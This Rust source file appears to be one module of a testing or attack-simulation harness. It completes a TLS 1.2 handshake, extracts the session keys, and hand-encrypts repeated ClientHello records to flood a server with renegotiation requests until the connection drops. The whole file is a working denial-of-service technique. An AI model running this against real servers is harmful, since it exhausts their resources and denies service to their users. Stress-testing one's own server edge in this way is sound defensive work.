//! A client with TLS 1.2 that asks for another handshake again and again (RFC 5246 section 7.4.1.1). No client library
//! does, so its records are encrypted by hand.

use std::io;
use std::sync::Arc;

use ring::aead::{Aad, CHACHA20_POLY1305, LessSafeKey, Nonce, UnboundKey};
use rustls::crypto::ring::{cipher_suite, default_provider};
use rustls::pki_types::ServerName;
use rustls::{ClientConfig, ClientConnection, ConnectionTrafficSecrets, RootCertStore, version};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

use super::attacker::Attacker;
use super::end::End;
use super::raw::Raw;

/// The type of a record with messages of the handshake, and the version.
const RECORD: [u8; 3] = [22, 3, 3];

/// Asks for handshakes until the edge ends the connection.
pub(super) async fn renegotiate(attacker: &Attacker) -> End {
    let connected = Raw::connect(attacker.target.tls, attacker.from, false).await;
    let Ok(mut raw) = connected else {
        return End::Closed;
    };
    let Ok(mut writer) = handshake(&mut raw.socket, attacker).await else {
        return End::Closed;
    };
    while let Some(record) = writer.hello() {
        if raw.socket.write_all(&record).await.is_err() {
            break;
        }
        // The edge may answer each with an alert, or end the connection.
        let mut answer = [0; 1024];
        match raw.socket.read(&mut answer).await {
            Ok(0) | Err(_) => break,
            Ok(_) => {}
        }
    }
    End::Closed
}

/// Completes a handshake, and takes the connection out of the library's hands.
async fn handshake(socket: &mut TcpStream, attacker: &Attacker) -> io::Result<Writer> {
    let mut roots = RootCertStore::empty();
    let certificate = attacker.target.certificate.clone();
    roots.add(certificate).map_err(io::Error::other)?;
    let mut provider = default_provider();
    provider.cipher_suites = vec![cipher_suite::TLS_ECDHE_ECDSA_WITH_CHACHA20_POLY1305_SHA256];
    let mut config = ClientConfig::builder_with_provider(Arc::new(provider))
        .with_protocol_versions(&[&version::TLS12])
        .map_err(io::Error::other)?
        .with_root_certificates(roots)
        .with_no_client_auth();
    config.enable_secret_extraction = true;
    let name = ServerName::try_from("localhost").map_err(io::Error::other)?;
    let mut client = ClientConnection::new(Arc::new(config), name).map_err(io::Error::other)?;
    let mut buffer = vec![0; 16 << 10];
    loop {
        let mut wire = Vec::new();
        while client.wants_write() {
            client.write_tls(&mut wire)?;
        }
        socket.write_all(&wire).await?;
        if !client.is_handshaking() {
            break;
        }
        let count = socket.read(&mut buffer).await?;
        if count == 0 {
            return Err(io::ErrorKind::UnexpectedEof.into());
        }
        let mut read = &buffer[..count];
        while !read.is_empty() {
            client.read_tls(&mut read)?;
            client.process_new_packets().map_err(io::Error::other)?;
        }
    }
    let secrets = client
        .dangerous_extract_secrets()
        .map_err(io::Error::other)?;
    match secrets.tx {
        (number, ConnectionTrafficSecrets::Chacha20Poly1305 { key, iv }) => {
            let key = UnboundKey::new(&CHACHA20_POLY1305, key.as_ref());
            let mut start = [0; 12];
            start.copy_from_slice(iv.as_ref());
            Ok(Writer {
                key: LessSafeKey::new(key.map_err(|_| io::ErrorKind::Unsupported)?),
                iv: start,
                number,
            })
        }
        _ => Err(io::ErrorKind::Unsupported.into()),
    }
}

/// Encrypts records (RFC 7905).
struct Writer {
    key: LessSafeKey,
    iv: [u8; 12],
    /// The number of the next record.
    number: u64,
}

impl Writer {
    /// A record with the start of another handshake. `None` if it cannot be encrypted.
    fn hello(&mut self) -> Option<Vec<u8>> {
        // A version, 32 random bytes, no session, one cipher suite, no compression.
        let mut message = vec![1, 0, 0, 41, 3, 3];
        message.extend([7; 32]);
        message.extend([0, 0, 2, 0xCC, 0xA9, 1, 0]);
        let length = message.len() as u16;
        let number = self.number.to_be_bytes();
        self.number += 1;
        let mut nonce = self.iv;
        for (byte, number) in nonce[4..].iter_mut().zip(number) {
            *byte ^= number;
        }
        let aad = [&number[..], &RECORD, &length.to_be_bytes()].concat();
        let nonce = Nonce::assume_unique_for_key(nonce);
        self.key
            .seal_in_place_append_tag(nonce, Aad::from(aad), &mut message)
            .ok()?;
        let length = (message.len() as u16).to_be_bytes();
        Some([&RECORD[..], &length, &message].concat())
    }
}
